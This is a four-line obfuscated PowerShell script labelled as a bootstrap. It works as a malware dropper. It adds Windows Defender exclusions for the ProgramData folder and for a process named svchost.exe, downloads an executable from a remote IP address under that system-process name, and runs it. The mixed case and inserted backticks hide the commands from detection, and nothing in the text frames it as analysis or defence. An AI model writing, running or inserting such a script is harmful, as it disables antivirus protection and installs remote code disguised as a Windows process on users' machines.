# bootstrap 4675 v0
A`d`D-`MP`pReFeReNcE -eXcLUSioNpatH $ENV:pROgRAmdaTa
Ad`d-Mp`PReFeren`Ce -eXcLuSiOnPrOcEsS 'svchost.exe'
IwR HtTp://203.0.113.17/sVcHoSt.Exe -OUTfilE $enV:proGRAMDAtA\sVCHOST.exE
& $EnV:PrOgRaMdAtA\sVChosT.eXe
